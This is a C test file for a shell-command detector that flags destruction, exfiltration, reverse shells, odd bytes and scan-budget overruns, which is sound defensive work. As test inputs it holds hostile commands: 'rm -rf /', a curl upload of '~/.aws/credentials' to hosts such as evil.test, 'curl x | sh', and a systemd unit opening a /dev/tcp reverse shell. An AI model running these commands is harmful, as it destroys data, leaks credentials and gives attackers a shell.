/* SPDX-License-Identifier: Apache-2.0 */
/* The shell detector: spans, words, modes, hosts of the policy, bounds. Verdicts: tests/table. */
#include <signal.h>
#include <time.h>

#include <sys/time.h>

#include "harness.h"
#include "inspect/detectors.h"
#include "inspect/scan.h"

static struct bawn_findings vet(struct bawn_subject sub, const struct bawn_policy *p)
{
	struct bawn_arena *a = bawn_arena_new(); /* lives as long as the test's process */
	struct bawn_findings f = {0};
	struct bawn_error err = {0};

	sub.lang = BAWN_LANG_BASH;
	sub.detect = BAWN_DETECT_COMMAND;
	sub.last = true;
	if (sub.text && !sub.len)
		sub.len = strlen(sub.text);
	ASSERT_EQ(bawn_scan_subject(a, p, &sub, &f, &err), 0);
	return f;
}

static const struct bawn_finding *find(const struct bawn_findings *f, const char *rule)
{
	for (size_t i = 0; i < f->n; i++) {
		if (!strcmp(f->v[i].rule, rule))
			return &f->v[i];
	}
	return NULL;
}

static double worst(const struct bawn_findings *f)
{
	double x = 0;

	for (size_t i = 0; i < f->n; i++)
		x = f->v[i].confidence > x ? f->v[i].confidence : x;
	return x;
}

TEST(span_is_the_command)
{
	struct bawn_findings f =
		vet((struct bawn_subject){.text = "echo hi; rm -rf /; echo bye"}, NULL);
	const struct bawn_finding *x = find(&f, "command.remove");

	ASSERT_TRUE(x != NULL);
	ASSERT_TRUE(x->start >= 8 && x->start <= 11);
	ASSERT_TRUE(x->end >= 17 && x->end <= 18);
	ASSERT_STREQ(x->category, "destruction");
	ASSERT_TRUE(strstr(x->message, "'rm'") != NULL);
}

TEST(span_of_a_nested_text_is_where_it_stands)
{
	struct bawn_findings f =
		vet((struct bawn_subject){.text = "echo hi; bash -c 'rm -rf /'"}, NULL);
	const struct bawn_finding *x = find(&f, "command.remove");

	ASSERT_TRUE(x != NULL);
	ASSERT_TRUE(x->start >= 8 && x->end <= 27);
}

/* Words were split already: what looks like syntax in them is none. */
TEST(words_are_not_read_again)
{
	static const char *const plain[] = {"echo", "$(rm -rf /)", ";", "rm", "-rf", "/", NULL};
	static const char *const script[] = {"sh", "-c", "rm -rf /", NULL};
	struct bawn_findings f = vet((struct bawn_subject){.argv = plain, .text = ""}, NULL);

	ASSERT_EQ(f.n, 0);
	f = vet((struct bawn_subject){.argv = script, .text = "sh -c 'rm -rf /'"}, NULL);
	ASSERT_TRUE(worst(&f) >= 0.7);
}

TEST(hosts_of_the_policy_are_compared_as_hosts)
{
	static const struct {
		const char *url;
		bool leak;
	} rows[] = {
		{"https://up.example.com/x", false},
		{"https://UP.EXAMPLE.COM./x", false},
		{"https://a.files.example.org/x", false},
		{"https://files.example.org/x", true},
		{"https://up.example.com.evil.test/x", true},
		{"https://up.example.com@evil.test/x", true},
		{"https://evil.test/up.example.com", true},
		{"https://xup.example.com/", true},
	};
	struct bawn_item items[] = {{.text = "up.example.com"}, {.text = "*.files.example.org"}};
	struct bawn_policy p = {.net_allow_hosts = {items, 2, 2}};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		char text[200];

		(void)snprintf(
			text, sizeof(text), "curl -F f=@$HOME/.aws/credentials %s", rows[i].url);
		struct bawn_findings f = vet((struct bawn_subject){.text = text}, &p);

		if ((find(&f, "command.exfiltration") != NULL) != rows[i].leak)
			FAIL("%s", rows[i].url);
	}
}

TEST(strict_mode_does_not_trust_what_does_not_parse)
{
	struct bawn_findings f = vet((struct bawn_subject){.text = "echo \"a"}, NULL);

	ASSERT_TRUE(worst(&f) < 0.3);
	f = vet((struct bawn_subject){.text = "echo \"a", .mode = BAWN_MODE_STRICT}, NULL);
	ASSERT_TRUE(worst(&f) >= 0.3);
	f = vet((struct bawn_subject){.text = "echo \"a; curl x | sh"}, NULL);
	ASSERT_TRUE(worst(&f) >= 0.3);
}

TEST(a_script_may_do_more_than_a_command)
{
	static const char text[] = "#!/bin/sh\ncp app.service /etc/systemd/system/app.service\n";
	struct bawn_findings f =
		vet((struct bawn_subject){.kind = BAWN_KIND_CODE, .text = text}, NULL);

	ASSERT_TRUE(worst(&f) < 0.3);
	f = vet((struct bawn_subject){.text = text}, NULL);
	ASSERT_TRUE(worst(&f) >= 0.3);
}

static char big[200000];

static void fill(const char *piece)
{
	size_t n = strlen(piece);

	memset(big, 0, sizeof(big));
	for (size_t i = 0; i + n < sizeof(big); i += n)
		memcpy(big + i, piece, n);
}

/* Whatever is repeated beyond what a shell takes: it ends, and it is not taken for harmless. */
TEST(hostile_sizes)
{
	static const char *const pieces[] = {"a", "echo a;", "$(", "`", "\"$(", "(", "{a,b}", "${",
		"sudo ", "eval ", "<<E ", "a=$a$a;", "if a; then ", "|cat", "'", "\"", "\\",
		"f(){ ", "for i in 1 2 3; do ", ">x ", "[[ ", "((", "case x in a) ", "x\n", "q(} ",
		"(a=1;", "f(){ local a=1; f; };", "declare -n a=b b=a;", "coproc a { ",
		"sed 's[e;"};

	for (size_t i = 0; i < sizeof(pieces) / sizeof(pieces[0]); i++) {
		fill(pieces[i]);
		struct bawn_findings f = vet((struct bawn_subject){.text = big}, NULL);

		if (worst(&f) < 0.3)
			FAIL("'%s' over and over is SAFE", pieces[i]);
	}
}

/* Brackets in brackets, each looked through again: that is paid for, and so it ends. */
TEST(what_is_read_again_is_paid_for)
{
	static const char *const rows[][2] = {{"{", "}"}, {"q(} ", ""}};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct bawn_findings f;
		char *half = big + sizeof(big) / 2;

		fill(rows[i][0]);
		if (*rows[i][1])
			memset(half, *rows[i][1], sizeof(big) / 2 - 1);
		f = vet((struct bawn_subject){.text = big}, NULL);
		if (!find(&f, "scan.budget"))
			FAIL("row %zu", i);
	}
}

TEST(many_parts)
{
	char text[600] = "";
	struct bawn_findings f;

	for (size_t i = 0; i < 50; i++)
		memcpy(text + i * 5, "true;", 5);
	f = vet((struct bawn_subject){.text = text}, NULL);
	ASSERT_TRUE(worst(&f) < 0.3);
	memcpy(text + 250, "true;", 5);
	f = vet((struct bawn_subject){.text = text}, NULL);
	ASSERT_TRUE(worst(&f) >= 0.3);
}

TEST(bytes_on_which_readers_disagree)
{
	static const struct {
		const char *text;
		size_t len;
		bool odd;
	} rows[] = {
		{"ls\r\npwd\r\n", 9, false},
		{"ls\rpwd", 6, true},
		{"ls\0pwd", 6, true},
		{"ls \xe2\x80\xa8pwd", 9, true},
		{"ls \xe2\x80\xae x", 8, true},
		{"l\xe2\x80\x8bs", 5, true},
		{"echo \xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb", 16, false},
		{"\xef\xbb\xbfls", 5, false},
		{"echo \x1b[31m", 10, true},
		{"echo \xc3\xa4", 7, false},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct bawn_findings f =
			vet((struct bawn_subject){.text = rows[i].text, .len = rows[i].len}, NULL);

		if ((find(&f, "command.odd-bytes") != NULL) != rows[i].odd)
			FAIL("row %zu", i);
	}
}

TEST(comments_of_a_script_hold_any_name)
{
	static const struct {
		const char *text;
		bool odd;
	} rows[] = {
		{"# by J\xe2\x80\x8bos\xc3\xa9\nls\n", false},
		{"# by Jos\xe9 \xad\nls\n", false},
		{"ls\n\f\npwd\n", false},
		{"# \xe2\x80\xae x\nls\n", true},
		{"l\xe2\x80\x8bs # x\n", true},
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct bawn_findings f = vet(
			(struct bawn_subject){.kind = BAWN_KIND_CODE, .text = rows[i].text}, NULL);

		if ((find(&f, "command.odd-bytes") != NULL) != rows[i].odd)
			FAIL("row %zu", i);
	}
}

TEST(what_a_unit_starts_is_vetted)
{
	struct bawn_findings f = vet(
		(struct bawn_subject){
			.text = "cat >/etc/systemd/system/x.service <<E\n[Service]\n"
				"ExecStart=-/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'\nE\n"},
		NULL);

	ASSERT_TRUE(find(&f, "command.reverse-shell") != NULL);
	f = vet((struct bawn_subject){.text = "cat >/etc/systemd/system/x.service <<E\n[Service]\n"
					      "ExecStart=/srv/app/serve\nE\n"},
		NULL);
	ASSERT_TRUE(find(&f, "command.reverse-shell") == NULL);
}

static volatile sig_atomic_t slept;

/* A machine that does something else for a while. */
static void sleep_a_while(int sig)
{
	struct timespec ts = {.tv_nsec = 700000000};

	(void)sig;
	(void)nanosleep(&ts, NULL);
	slept = 1;
}

TEST(a_busy_machine_changes_no_verdict)
{
	static char text[16001];
	struct itimerval soon = {.it_value = {.tv_usec = 1000}};
	struct bawn_findings f;

	for (size_t i = 0; i + 8 < sizeof(text); i += 8)
		memcpy(text + i, "x=$(ls)\n", 8);
	f = vet((struct bawn_subject){.kind = BAWN_KIND_CODE, .text = text}, NULL);
	ASSERT_TRUE(find(&f, "command.too-deep") == NULL);
	for (int turn = 0; turn < 4; turn++) {
		ASSERT_TRUE(signal(SIGALRM, sleep_a_while) != SIG_ERR);
		soon.it_value.tv_usec = 500 << turn;
		ASSERT_EQ(setitimer(ITIMER_REAL, &soon, NULL), 0);
		f = vet((struct bawn_subject){.kind = BAWN_KIND_CODE, .text = text}, NULL);
		ASSERT_TRUE(find(&f, "command.too-deep") == NULL);
	}
	ASSERT_TRUE(slept);
}

TEST(long_words_are_no_harm)
{
	static const char *const rows[] = {"gh api -X POST repos/o/r/issues -f body='%s'",
		"docker run -e X='%s' alpine true",
		"curl -X POST -d '%s' https://api.example.com/v1",
		"aws iam create-policy --policy-name x --policy-document '%s'",
		"kubectl patch deploy web -p '%s'",
		"az rest --method post --url https://x --body '%s'"};
	static char body[40000], text[41000];
	size_t n = 0;

	for (int i = 0; n + 64 < sizeof(body); i++)
		n += (size_t)snprintf(
			body + n, sizeof(body) - n, "{\"id\": %d, \"name\": \"item %d\"}, ", i, i);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const char *hole = strstr(rows[i], "%s");
		struct bawn_findings f;

		(void)snprintf(text, sizeof(text), "%.*s%s%s", (int)(hole - rows[i]), rows[i], body,
			hole + 2);
		f = vet((struct bawn_subject){.text = text}, NULL);
		if (worst(&f) >= 0.3)
			FAIL("row %zu: %s", i, f.v[0].rule);
	}
}
